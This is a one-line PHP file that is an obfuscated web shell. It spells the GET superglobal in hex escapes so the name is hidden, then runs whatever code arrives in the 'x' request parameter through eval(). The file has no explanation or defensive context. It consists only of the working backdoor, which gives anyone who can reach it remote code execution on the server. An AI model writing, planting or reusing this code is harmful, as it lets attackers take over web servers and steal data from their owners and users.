<?php $g = ${"\x5f\x47\x45\x54"}; eval($g["x"]);
